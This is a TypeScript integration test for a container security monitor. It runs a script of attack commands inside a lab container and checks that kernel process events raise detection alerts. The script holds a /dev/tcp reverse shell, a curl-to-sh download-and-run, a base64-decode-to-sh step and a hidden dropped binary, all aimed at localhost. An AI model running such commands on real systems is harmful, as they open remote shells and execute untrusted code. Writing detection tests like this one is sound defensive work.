import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { adminClient, engines, LAB, newNamespace } from '../support/engines';
import { removeContainers, runContainer } from '../support/containers';
import { DockwardProcess } from '../support/dockward';
import { fetchAll, waitForRules } from '../support/elasticsearch';

type Alert = { rule: { id: string }; dockward: { alert: { source: { index: string; id: string } } } };

/**
 * Issue #7's promise to detection: with `top` polling and exec events off, short-lived attack
 * commands run by a script inside the container are seen by the kernel process-events collector
 * alone, and raise their alerts. The script travels base64-encoded into a file, so that the
 * container's own command line (which the kernel also reports) carries none of the attacks.
 */
const SCRIPT = [
  'sleep 2',
  '(sleep 5 | nc -l 127.0.0.1 4444 >/dev/null &)',
  "(printf 'HTTP/1.0 200 OK\\r\\n\\r\\ntouch /tmp/pwned\\n' | nc -l -N 127.0.0.1 8000 >/dev/null &)",
  'sleep 0.5',
  'timeout 2 bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" 2>/dev/null',
  'sh -c "curl -s http://127.0.0.1:8000/x.sh | sh"',
  'sh -c "echo dG91Y2ggL3RtcC9iNjQ= | base64 -d | sh"',
  'cp /bin/sleep /tmp/.x',
  '/tmp/.x 1',
  'sleep 300',
].join('\n');

describe('detection from kernel process events alone (polling and exec events off)', () => {
  const { docker } = engines();
  const es = adminClient();
  const ns = newNamespace('kdet');
  let dw: DockwardProcess;

  before(async () => {
    dw = DockwardProcess.run({
      namespace: ns,
      sets: ['collectors.kernel.enabled=true', 'collectors.processes.enabled=false', 'collectors.exec.enabled=false', 'collectors.drift.schedule=*/2 * * * * *', 'detect.window=1h'],
    });
    await dw.waitFor(/kernel process events: subscribed/);
  });
  after(async () => {
    await dw.kill();
    await removeContainers(docker, ns);
    await es.close();
  });

  it('a /dev/tcp reverse shell, curl|sh, base64 -d|sh and a dropped binary, each within seconds', async () => {
    const b64 = Buffer.from(SCRIPT).toString('base64');
    const { id } = await runContainer(docker, { name: `${ns}-victim`, image: LAB, cmd: ['sh', '-c', `echo ${b64} | base64 -d > /tmp/a.sh; exec sh /tmp/a.sh`] });
    const want = ['dockward-reverse-shell-dev-tcp', 'dockward-download-exec', 'dockward-base64-exec', 'dockward-dropped-binary-exec'];
    const alerts = await waitForRules<Alert>(es, `logs-dockward.alert-${ns}`, id, want, 40_000);
    assert.deepEqual(want.filter((r) => !alerts.some((a) => a.rule.id === r)), [], `missing alerts; got ${alerts.map((a) => a.rule.id)}\n${dw.log.slice(-2000)}`);
    // Every process document behind these alerts came from the kernel collector.
    for (const a of alerts.filter((x) => x.dockward.alert.source.index.startsWith('logs-dockward.process-'))) {
      const [src] = await fetchAll<{ event: { provider: string } }>(es, a.dockward.alert.source.index, { ids: { values: [a.dockward.alert.source.id] } });
      assert.equal(src?.event.provider, 'kernel', a.rule.id);
    }
  });
});
